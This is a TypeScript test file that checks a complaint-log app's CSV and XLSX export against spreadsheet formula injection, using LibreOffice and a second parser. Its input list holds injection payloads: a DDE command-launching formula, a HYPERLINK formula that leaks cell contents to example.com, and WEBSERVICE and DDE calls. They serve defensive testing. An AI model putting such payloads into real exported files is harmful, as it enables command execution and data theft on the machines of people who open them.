// Files full of what must never be computed, opened by LibreOffice and read by a second library.
import { createReadStream, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse';
import { afterAll, expect, test } from 'vitest';
import type { Complaint } from '../../lib/domain/complaint';
import { newComplaint } from '../../lib/domain/complaint-formats';
import { tableToCsv } from '../../lib/export/csv';
import { complaintTable } from '../../lib/export/rows';
import type { Table } from '../../lib/export/rows';
import { tableToXlsx } from '../../lib/export/xlsx';
import { openSpreadsheet } from '../support/spreadsheet';
import type { Cell } from '../support/spreadsheet';

const folder = mkdtempSync(join(tmpdir(), 'spreadsheet-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const formulas = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u0000=1+1',
  '\u0000\u0000=1+1',
  '=1+1\nand more',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com/?x="&A1,"look")',
  '=WEBSERVICE("https://example.com/")',
  '=DDE("soffice";"a.ods";"A1")',
  '{=1+1}',
  '"=1+1"',
  "'=1+1",
];
const pieces = [
  ...formulas,
  '"',
  '""',
  "'",
  ',',
  ';',
  '\t',
  '\n',
  '\r\n',
  '\r',
  '\u0000',
  '\u0001\u001F',
  '\u000B\u000C',
  '\uFEFF',
  '\u2028',
  '\u00A0',
  '  ',
  '😀',
  '👨‍👩‍👧',
  '🇨🇳',
  'שלום',
  'مرحبا',
  '\u202Eabc\u202C',
  '杯子碎了，“很失望”',
  '，；：',
  '<b>&amp;</b>',
  ']]>',
  '_x000D_',
  'é',
  'the cup was broken',
];

/** The same texts in each run: a linear congruential generator (Numerical Recipes). */
function createTexts(seed: number) {
  let state = seed;
  const below = (count: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * count);
  };
  const one = () => pieces[below(pieces.length)] ?? '';
  return () => Array.from({ length: 1 + below(4) }, one).join('');
}

/** Complaints a page at a time, each of whose texts is hostile. */
function makeLog(count: number): Complaint[][] {
  const text = createTexts(7);
  const origin = { channel: 'chat.example.com', receivedAt: 0 };
  const complaints = Array.from({ length: count }, (_, index) => ({
    ...newComplaint({ who: 'Dana', what: 'x', feeling: '', request: '' }, origin, {
      id: `c${index}`,
      number: index + 1,
      at: 0,
    }),
    who: formulas[index % formulas.length] ?? '',
    what: text(),
    request: text(),
  }));
  const pages = Math.ceil(count / 1_000);
  return Array.from({ length: pages }, (_, page) =>
    complaints.slice(page * 1_000, page * 1_000 + 1_000),
  );
}

function tableOf(log: Complaint[][]): Table {
  const columns = (['number', 'who', 'what', 'request'] as const).map((column) => ({
    column,
    title: `=${column}`,
  }));
  async function* pages() {
    yield* log;
  }
  return complaintTable(pages(), columns, false);
}

const options = { mark: true, signal: new AbortController().signal, onProgress: () => {} };

async function save(file: Blob, name: string): Promise<string> {
  const path = join(folder, name);
  writeFileSync(path, new Uint8Array(await file.arrayBuffer()));
  return path;
}

/** As a CSV says it: a sign by which a cell would be computed is led by an apostrophe (OWASP). */
function guarded(text: string): string {
  return /^\p{Cc}*[=+\-@\t\r\n＝＋－＠]/u.test(text) ? `'${text}` : text;
}

/** What LibreOffice holds of a text: one kind of line break, no tabs beside one, no control characters. */
function inSheet(text: string, lineBreaks = /\r\n|\n\r|\r/g): string {
  const lines = text.replaceAll(lineBreaks, '\n');
  const held = lines.includes('\n') ? lines.replaceAll('\t', '') : lines;
  // oxlint-disable-next-line no-control-regex -- It is these that no spreadsheet holds.
  return held.replaceAll(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/g, '');
}

function cellsOf({ number, who, what, request }: Complaint): string[] {
  return [String(number), who, what, request];
}

/** Where the rows differ from the log, told with the number; and how many there are. */
async function compare(
  rows: AsyncIterable<readonly string[]>,
  log: Complaint[][],
  told: (text: string) => string,
) {
  const wanted = log.flat().map((each) => cellsOf(each).map(told));
  const faults: unknown[] = [];
  let count = -1; // The first one holds the titles.
  for await (const row of rows) {
    const want = wanted[count];
    if (count >= 0 && JSON.stringify(row) !== JSON.stringify(want)) faults.push({ row, want });
    count++;
  }
  return { count, faults: faults.slice(0, 5) };
}

/** The texts of a sheet's rows; each formula that is met is noted. */
async function* textsOf(rows: AsyncIterable<Cell[]>, computed: string[]) {
  for await (const cells of rows) {
    for (const { formula } of cells) if (formula !== undefined) computed.push(formula);
    yield cells.map(({ text }) => text);
  }
}

test('100,000 hostile records as CSV are the log again, in another library and in LibreOffice', async () => {
  const log = makeLog(100_000);
  const { file, rows } = await tableToCsv(tableOf(log), options);
  const path = await save(file, 'log.csv');
  expect(rows).toBe(100_000);

  const reader: AsyncIterable<string[]> = createReadStream(path).pipe(parse({ bom: true }));
  expect(await compare(reader, log, guarded)).toEqual({ count: 100_000, faults: [] });

  const computed: string[] = [];
  const opened = textsOf(openSpreadsheet(path, folder), computed);
  const asOpened = (text: string) => inSheet(guarded(text));
  expect(await compare(opened, log, asOpened)).toEqual({ count: 100_000, faults: [] });
  expect(computed).toEqual([]);
}, 300_000);

test('as a workbook they are the log without any apostrophe, since texts are told from formulas there', async () => {
  const log = makeLog(3_000);
  const { file, rows } = await tableToXlsx(tableOf(log), options);
  const path = await save(file, 'book.xlsx');
  const computed: string[] = [];
  const opened = textsOf(openSpreadsheet(path, folder), computed);
  const asWritten = (text: string) => inSheet(text, /\r\n?/g);
  expect(await compare(opened, log, asWritten)).toEqual({ count: 3_000, faults: [] });
  expect([rows, computed]).toEqual([3_000, []]);
}, 120_000);

test('a cell that is computed would be noticed', async () => {
  const path = join(folder, 'bare.csv');
  writeFileSync(path, '\uFEFFa,b\r\n=1+1,\u0000=2+2\r\n');
  const computed: string[] = [];
  for await (const row of textsOf(openSpreadsheet(path, folder), computed))
    expect(row).toHaveLength(2);
  expect(computed).toEqual(['of:=1+1', 'of:=2+2']);
}, 60_000);
